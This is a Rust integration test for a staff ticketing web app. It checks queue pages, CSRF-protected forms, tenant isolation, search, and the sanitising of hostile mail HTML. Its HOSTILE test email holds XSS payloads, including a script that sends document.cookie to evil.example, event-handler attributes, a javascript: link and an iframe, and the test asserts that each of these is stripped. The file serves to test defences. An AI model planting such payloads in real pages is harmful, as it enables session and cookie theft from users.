//! The staff pages over real HTTP with a browser session (login link): my
//! queues, a queue's tickets, a ticket whose mail HTML is hostile and renders
//! inert, the take and resolve forms with their CSRF token, and another LV's
//! ticket answering 404.

use crate::intake::drain;
use logbuch_tests::oidc;
use logbuch_tests::{Backend, TestApp, both, spawn_app};
use reqwest::StatusCode;

pub(crate) const HOSTILE: &str = "From: Mallory <mallory@example.org>\r\nTo: mitglieder-by@piratenpartei.de\r\n\
Subject: Rechnung\r\nMessage-ID: <hostile1@x>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Bitte zahlen.\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<p onmouseover=\"steal()\">Bitte <b>sofort</b> zahlen.</p><script>document.location='https://evil.example/'+document.cookie</script>\
<img src=\"https://tracker.example/pixel.gif\" onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">Rechnung</a>\
<iframe src=\"https://evil.example/\"></iframe>\r\n--b--\r\n";

async fn browser_for(t: &TestApp, email: &str) -> (reqwest::Client, String) {
    let b = oidc::browser();
    let path = logbuch_core::admin::login_link(&t.app, email).await.unwrap();
    let r = b.get(format!("{}{path}", t.url)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let csrf: serde_json::Value = b.get(format!("{}/auth/session", t.url)).send().await.unwrap().json().await.unwrap();
    (b, csrf["csrf_token"].as_str().unwrap().to_owned())
}

async fn html(b: &reqwest::Client, url: String) -> (StatusCode, String, String) {
    let r = b.get(url).send().await.unwrap();
    let csp = r.headers().get("content-security-policy").map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    (r.status(), csp, r.text().await.unwrap())
}

async fn staff_pages_work_and_mail_html_is_inert(backend: Backend) {
    let t = spawn_app(backend).await;
    t.person("alice@by.example", &[("helper", Some("by"), None)]).await;
    t.person("dave@nowhere.example", &[]).await;
    let officer = t.person("fo@bund.example", &[("federal_officer", None, None)]).await;
    let he = t.create_ticket(&officer, "he", "mitglieder", "Hessen intern").await;
    t.app.ingest_raw("test", HOSTILE.as_bytes()).await.unwrap();
    drain(&t).await;

    let (alice, csrf) = browser_for(&t, "alice@by.example").await;
    let (s, csp, home) = html(&alice, format!("{}/", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(csp.contains("default-src 'none'") && !csp.contains("script-src"), "{csp}");
    assert!(home.contains("Meine Queues") && home.contains("/ui/tickets?tenant=by&amp;queue=mitglieder"), "{home}");
    assert!(!home.contains("tenant=he"), "no HE queue for a BY helper");

    let (s, _, list) = html(&alice, format!("{}/ui/tickets?tenant=by&queue=mitglieder", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    let n: i64 = list.split("/ui/tickets/").nth(1).and_then(|r| r.split('"').next()).unwrap().parse().unwrap();
    assert!(list.contains("Rechnung"), "{list}");

    let (s, _, page) = html(&alice, format!("{}/ui/tickets/{n}", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(page.contains("Bitte <b>sofort</b> zahlen."), "the mail's text and formatting stay: {page}");
    for bad in
        ["<script", "onmouseover", "onerror", "javascript:", "<img", "<iframe", "evil.example", "tracker.example"]
    {
        assert!(!page.contains(bad), "{bad} reached the page: {page}");
    }

    let (s, _, _) = html(&alice, format!("{}/ui/tickets/{he}", t.url)).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "another LV's ticket does not exist");

    let take = format!("{}/ui/tickets/{n}/take", t.url);
    let r = alice.post(&take).form(&[("csrf_token", "")]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN, "a form without the CSRF token is refused");
    let r = alice.post(&take).form(&[("csrf_token", csrf.as_str())]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, format!("{}/ui/tickets/{n}", t.url)).await;
    assert!(page.contains("id=\"besitzer\">alice@by.example<"), "taken: {page}");
    let r = alice
        .post(format!("{}/ui/tickets/{n}/resolve", t.url))
        .form(&[("csrf_token", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, _, page) = html(&alice, format!("{}/ui/tickets/{n}", t.url)).await;
    assert!(page.contains("id=\"status\">erledigt<"), "resolved: {page}");

    // The federal officer hands a triage ticket to BY; alice then has it.
    let triage = t.create_ticket(&officer, "bund", "triage", "Frage zur Mitgliedschaft").await;
    let (fo, fo_csrf) = browser_for(&t, "fo@bund.example").await;
    let (_, _, page) = html(&fo, format!("{}/ui/tickets/{triage}", t.url)).await;
    assert!(page.contains("id=\"uebergeben\"") && page.contains("<option value=\"by\">"), "{page}");
    let (_, _, alice_page) = html(&alice, format!("{}/ui/tickets/{n}", t.url)).await;
    assert!(!alice_page.contains("id=\"uebergeben\""), "helpers hand nothing over");
    let over = format!("{}/ui/tickets/{triage}/handover", t.url);
    let r = fo.post(&over).form(&[("csrf_token", ""), ("tenant", "by")]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = fo.post(&over).form(&[("csrf_token", fo_csrf.as_str()), ("tenant", "by")]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, _, list) = html(&alice, format!("{}/ui/tickets?tenant=by&queue=allgemein", t.url)).await;
    assert!(list.contains("Frage zur Mitgliedschaft"), "in BY's default queue: {list}");

    // Search finds the resolved ticket, and nothing of HE for a BY helper.
    let (s, _, found) = html(&alice, format!("{}/ui/search?q=Rechnung", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(found.contains(&format!("/ui/tickets/{n}")), "{found}");
    let (_, _, none) = html(&alice, format!("{}/ui/search?q=Hessen", t.url)).await;
    assert!(none.contains("id=\"keine-treffer\""), "{none}");
    let (s, _, _) = html(&alice, format!("{}/ui/search?q=%2A%2A", t.url)).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "a search without a word");

    let (dave, _) = browser_for(&t, "dave@nowhere.example").await;
    let (_, _, home) = html(&dave, format!("{}/", t.url)).await;
    assert!(home.contains("id=\"keine-queues\""), "{home}");

    let anonymous = oidc::browser();
    let (s, _, login) = html(&anonymous, format!("{}/", t.url)).await;
    assert_eq!(s, StatusCode::OK);
    assert!(login.contains("Anmelden"), "{login}");
    let r = anonymous.get(format!("{}/ui/tickets/{n}", t.url)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "pages send strangers to the login");
}

both!(staff_pages_work_and_mail_html_is_inert);
